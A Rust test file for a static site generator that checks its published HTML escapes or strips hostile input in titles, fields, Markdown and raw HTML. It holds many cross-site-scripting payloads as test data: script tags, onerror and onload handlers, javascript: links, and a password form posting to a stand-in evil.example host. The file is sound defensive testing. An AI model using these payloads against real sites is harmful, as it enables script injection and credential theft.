//! What reaches a reader's browser: words stay words, and nothing runs or is loaded from elsewhere.

use crate::inputs::builds_soundly;
use crate::site::{SOP, Site, page, without_charts};

/// What an attacker would write where words are expected.
const EVIL: [&str; 4] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</title></main><script src=//evil.example/x.js></script>",
];

#[test]
fn no_field_reaches_a_page_unescaped() {
    for evil in EVIL {
        let quoted = serde_json::to_string(evil).expect("a string");
        let front = format!(
            "title: {quoted}\ndescription: {quoted}\ndepartment: {quoted}\nowner: {quoted}\nversion: {quoted}\naudience: [{quoted}]\ntags: [{quoted}]\n\
             situations: [{quoted}]\npurpose: {quoted}\naliases: [{quoted}]\nglossary:\n  {quoted}: {quoted}\nlang: en"
        );
        let yaml_steps = format!(
            "instructions:\n  - phase: {quoted}\n    steps:\n      - ask: {quoted}\n        id: {quoted}\n        role: {quoted}\n        tool: {quoted}\n        \
             channel: {quoted}\n        to: {quoted}\n        needs: {quoted}\n        say: {quoted}\n        record: [{quoted}]\n        answers: {{ {quoted}: end }}\n"
        );
        let body = format!(
            "## {evil}\n\n1. {evil} {{#a role={quoted}}}\n   - {evil} → end\n\n[{evil}](https://example.com/ '{evil}') ![{evil}](https://example.com/a.png) `{evil}`\n\n\
             ```{evil}\n{evil}\n```\n\n> [!{evil}]\n> a\n\n[[nowhere|{evil}]] [[{evil}]] <{evil}>\n\n| {evil} |\n|---|\n| {evil} |\n\n[^1]\n\n[^1]: {evil}\n"
        );
        let settings = format!(
            "title = {quoted}\ndescription = {quoted}\nbase_url = \"https://example.com/\"\nedit_url = \"https://example.com/{{path}}?{}\"\nflag_url = \"mailto:a@example.com?subject={{title}}{{step}}{{version}}&body={{path}}{{url}}\"\n",
            evil.replace(['"', ' '], "")
        );
        let site = Site::new()
            .file("sops/a.md", format!("---\n{front}\n{yaml_steps}---\n"))
            .file("sops/b.md", format!("---\n{front}\n---\n\n{body}\n\n## Instructions\n\n{body}\n"))
            .file("sops/c.yaml", format!("terms:\n  - {{ title: {quoted}, definition: {quoted}, synonyms: [{quoted}] }}\nroles:\n  - {{ title: {quoted}, may: {quoted} }}\n"))
            .file("sops/d.yaml", format!("departments:\n  - {{ title: {quoted}, purpose: {quoted} }}\n"))
            .file("sopwith.toml", settings);
        builds_soundly(&site);
        for file in site.files("out").iter().filter(|file| file.ends_with(".html")) {
            let html = without_charts(&site.read(&format!("out/{file}")));
            let scripts = match file.as_str() {
                "search.html" => 3,
                _ if html.contains(" data-to=") => 1,
                _ => 2,
            };
            assert!(
                html.matches("<script").count() == scripts && !html.contains("<svg") && !html.contains("<img src=x"),
                "{file}: {html}"
            );
        }
    }
}

#[test]
fn the_words_of_a_title_with_html_in_it_are_shown() {
    let site = Site::with_sop(&SOP.replace("Handle a refund request", "Use <b> & \"quotes\""));
    site.is_clean();
    builds_soundly(&site);
    let html = site.read("out/refund.html");
    assert!(html.contains("<h1>Use &lt;b&gt; &amp; &quot;quotes&quot;</h1>"), "{html}");
    assert!(html.contains("<title>Use &lt;b&gt; &amp; &quot;quotes&quot; · Knowledge base</title>"), "{html}");
}

#[test]
fn raw_html_is_kept_as_far_as_it_is_harmless() {
    let body = "<details open><summary>More</summary>\n\n*Text* with <kbd>Ctrl</kbd> and H<sub>2</sub>O.<br>\n\n</details>\n\n<table><tr><td>a</td></tr></table>";
    let site = Site::new().file("sops/a.md", page("A", body));
    site.is_clean();
    builds_soundly(&site);
    let html = site.main("a.html");
    for words in [
        "<details open=\"\"><summary>More</summary>",
        "<em>Text</em>",
        "<kbd>Ctrl</kbd>",
        "H<sub>2</sub>O",
        "<td>a</td>",
    ] {
        assert!(html.contains(words), "no {words} in {html}");
    }
}

#[test]
fn raw_html_that_could_do_something_is_dropped() {
    for body in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "a <script>alert(1)</script> b",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<style>body { display: none }</style>",
        "<p style=\"color: red\" onclick=\"alert(1)\">a</p>",
        "<img src=\"x.png\" onerror=\"alert(1)\" alt=\"\">",
        "<img src=\"https://evil.example/x.png\" alt=\"\">",
        "<a href=\"javascript:alert(1)\">a</a>",
        "<a href=\" &#106;avascript:alert(1)\">a</a>",
        "<a href=\"java\nscript:alert(1)\">a</a>",
        "<form action=\"https://evil.example/\"><input name=\"password\"><button>Go</button></form>",
        "<svg onload=\"alert(1)\"><a xlink:href=\"javascript:alert(1)\"></a></svg>",
        "<math href=\"javascript:alert(1)\">a</math>",
        "<object data=\"https://evil.example/\"></object><embed src=\"https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<video src=\"https://evil.example/x.mp4\" autoplay></video>",
        "<audio src=\"https://evil.example/x.mp3\"></audio>",
        "<input type=\"image\" src=\"https://evil.example/x.png\">",
        "<table background=\"https://evil.example/x.png\"><tr><td>a</td></tr></table>",
        "<blockquote cite=\"https://evil.example/\">a</blockquote>",
        "\u{f8fe}<a href=\"\u{f8fe}javascript:alert(1)\">a</a>",
        "<template><script>alert(1)</script></template>",
    ] {
        let site = Site::new().file("sops/a.md", page("A", body));
        builds_soundly(&site);
        let html = site.main("a.html");
        for words in ["alert(1)\"", "<script", "onerror=", "<button", "evil.example/\" ", "style="] {
            assert!(!html.contains(words), "{body}: {html}");
        }
    }
}

/// Browsers that run scripts read no HTML in `noscript`, others do: a page has none, so that both read the same.
#[test]
fn what_is_in_noscript_is_html_like_all_else() {
    let body = "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">a</p></noscript>";
    let site = Site::new().file("sops/a.md", page("A", body));
    builds_soundly(&site);
    let html = site.main("a.html");
    assert!(html.contains("<p title=\"&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;\">a</p>"), "{html}");
    assert!(!html.contains("noscript>"), "{html}");
}

#[test]
fn characters_for_private_use_mean_nothing_and_stay() {
    let marks = "\u{F8FC}\u{F8FD}\u{F8FE}";
    let body = format!(
        "Text {marks} `code {marks}` [words {marks}](https://a.example/ \"title {marks}\") **{marks}**.\n\n\
         <b title=\"{marks}7\" class=\"{marks}\">raw {marks}</b> <a href=\"{marks}https://evil.example/\">no link</a> \
         <a href=\"https://b.example/\" title=\"{marks}9\" data-note=\"{marks}9\">link</a>\n\n\
         <p id=\"{marks}note:1\">one</p>\n\n<p id=\"{marks}\">two</p>\n\n<p id=\"flowchart:1\"></p>\n\n\
         \u{F8FD}flowchart:1\u{F8FD}\n\n```mermaid\nflowchart TD\n  a[A {marks}] --> b\n```\n"
    );
    let site = Site::new().file("sops/a.md", page("A", &body));
    builds_soundly(&site);
    let html = site.main("a.html");
    for expected in [
        format!("Text {marks} <code>code {marks}</code>"),
        format!("title=\"title {marks}\">words {marks}</a> <strong>{marks}</strong>"),
        format!("<b title=\"{marks}7\" class=\"{marks}\">raw {marks}</b>"),
        "<a>no link</a>".to_owned(),
        format!("<a href=\"https://b.example/\" title=\"{marks}9\">link</a>"),
        "<p>one</p>".to_owned(),
        format!("<p id=\"{marks}\">two</p>"),
        "<p></p>".to_owned(),
        "<p>\u{F8FD}flowchart:1\u{F8FD}</p>".to_owned(),
    ] {
        assert!(html.contains(&expected), "{expected}: {html}");
    }
    let whole = site.whole_main("a.html");
    assert_eq!(site.charts("a.html").len(), 1, "{whole}");
    assert!(whole.contains("<a href=\"https://b.example/\" data-note=\"2\" title="), "{whole}");
}

#[test]
fn tags_that_are_not_closed_do_not_swallow_the_page() {
    for tag in [
        "<div>",
        "<div",
        "<details>",
        "</div></div>",
        "</main></body></html>",
        "<!--",
        "<!-- a",
        "<textarea>",
        "<title>",
        "<xmp>",
        "<plaintext>",
        "<select>",
        "<table>",
        "<b><i>",
        "<a href=\"https://example.com/\">",
        "<p",
        "<![CDATA[",
        "<?php",
        "<!DOCTYPE html>",
        "<script>",
        "<style>",
        "<template>",
        "<pre>",
    ] {
        let site = Site::with_sop(&SOP.replace("## Instr", &format!("Before {tag} after.\n\n{tag}\n\n## Instr")))
            .file("sops/a.md", page("A", tag));
        builds_soundly(&site);
        for name in ["out/refund.html", "out/a.html"] {
            let html = site.read(name);
            let (_, after) = html.split_once("</main>").unwrap_or_else(|| panic!("{tag}: {html}"));
            assert!(after.contains("<footer class=\"site-footer\">"), "{tag}: {after}");
        }
    }
}

#[test]
fn comments_are_not_published() {
    let site = Site::new()
        .file("sops/a.md", page("A", "Text <!-- secret --> text.\n\n<!--\nsecret\n-->\n\n<div><!-- secret --></div>"));
    site.is_clean();
    builds_soundly(&site);
    assert!(!site.read("out/a.html").contains("secret"));
}

#[test]
fn a_picture_elsewhere_is_a_link_and_is_not_loaded() {
    let site = Site::new()
        .file("sops/a.md", page("A", "![The form](https://example.com/form.png) ![Two](//example.com/b.png)"));
    site.is_clean();
    builds_soundly(&site);
    let html = site.main("a.html");
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains("<a class=\"image-elsewhere\" href=\"https://example.com/form.png\">The form</a>"), "{html}");
}

#[test]
fn headings_named_like_places_of_the_page_have_names_of_their_own() {
    let headings = [
        "Content",
        "Contents title",
        "Used by",
        "Footnotes",
        "Page terms",
        "Term RMA",
        "fn-1",
        "Term RMA meaning",
        "fnref-1",
    ];
    let body: String = headings.iter().map(|heading| format!("## {heading}\n\nText[^1].\n\n")).collect();
    let site = Site::with_sop(&SOP.replace("## Instr", &format!("{body}[^1]: A note.\n\n## Instr")))
        .file("sops/a.md", page("A", "[[refund#used-by]] [[refund]]"));
    builds_soundly(&site);
}

#[test]
fn steps_named_like_places_of_the_page_are_found_or_kept_apart() {
    for id in ["content", "used-by", "contents-title", "term-rma", "term-rma-meaning", "purpose", "glossary"] {
        let site =
            Site::with_sop(&SOP.replace("{#greet", &format!("{{#{id}"))).file("sops/a.md", page("A", "[[refund]]"));
        builds_soundly(&site);
    }
}

#[test]
fn names_in_raw_html_do_not_take_those_of_the_page() {
    let site = Site::with_sop(&SOP.replace("## Instr", "<p id=\"content\">a</p> <p id=\"greet\">b</p>\n\n## Instr"));
    builds_soundly(&site);
}
